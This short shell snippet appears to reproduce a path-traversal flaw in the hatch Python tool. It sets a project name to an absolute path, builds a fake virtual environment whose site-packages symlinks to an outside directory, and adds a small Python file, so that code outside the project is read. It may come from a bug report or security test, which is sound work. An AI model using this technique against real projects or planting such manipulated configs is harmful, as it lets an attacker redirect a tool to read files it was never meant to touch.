# The attacker wants Python files outside to be read, and quoted: the name of the project is an absolute path, which hatch's directory of
# environments is joined with.
printf '[project]\nname = "/proc/self/cwd/evil"\n' > pyproject.toml
mkdir -p evil/lib/python3.12
ln -s "$OUTSIDE" evil/lib/python3.12/site-packages
printf 'home = /usr/bin\nversion = 3.12.1\n' > evil/pyvenv.cfg
printf 'from package.module import f\n\n\nasync def g():\n    f()\n' > b.py
